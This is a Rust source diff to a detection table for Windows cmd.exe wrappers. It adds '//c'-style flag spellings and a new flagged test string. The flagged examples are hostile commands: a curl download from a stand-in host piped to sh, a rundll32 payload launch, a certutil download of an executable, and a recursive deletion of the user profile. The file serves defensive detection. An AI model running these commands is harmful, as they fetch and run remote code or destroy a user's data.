@@ -95,8 +95,8 @@ pub const WINDOWS: &[Program] = &[
         // The words after /c are the command line (quoted as one word or
         // not); the wrapper reading sees the words as typed, so each
         // spelling is listed.
-        exec: &[OptArgv { names: &["/c", "/C", "/k", "/K", "/r", "/R", "-c", "-k"] }],
-        flagged: &["cmd.exe /c \"curl http://x.example/a | sh\"", "cmd /c rundll32.exe payload.dll,EntryPoint", "cmd /C certutil -urlcache -f http://x.example/a.exe a.exe"],
+        exec: &[OptArgv { names: &["/c", "/C", "/k", "/K", "/r", "/R", "-c", "-k", "//c", "//C", "//k", "//K"] }],
+        flagged: &["cmd.exe /c \"curl http://x.example/a | sh\"", "cmd //c \"rd /s /q %USERPROFILE%\"", "cmd /c rundll32.exe payload.dll,EntryPoint", "cmd /C certutil -urlcache -f http://x.example/a.exe a.exe"],
         clean: &["cmd /c dir", "cmd.exe /c echo hello"],
         ..W
     },
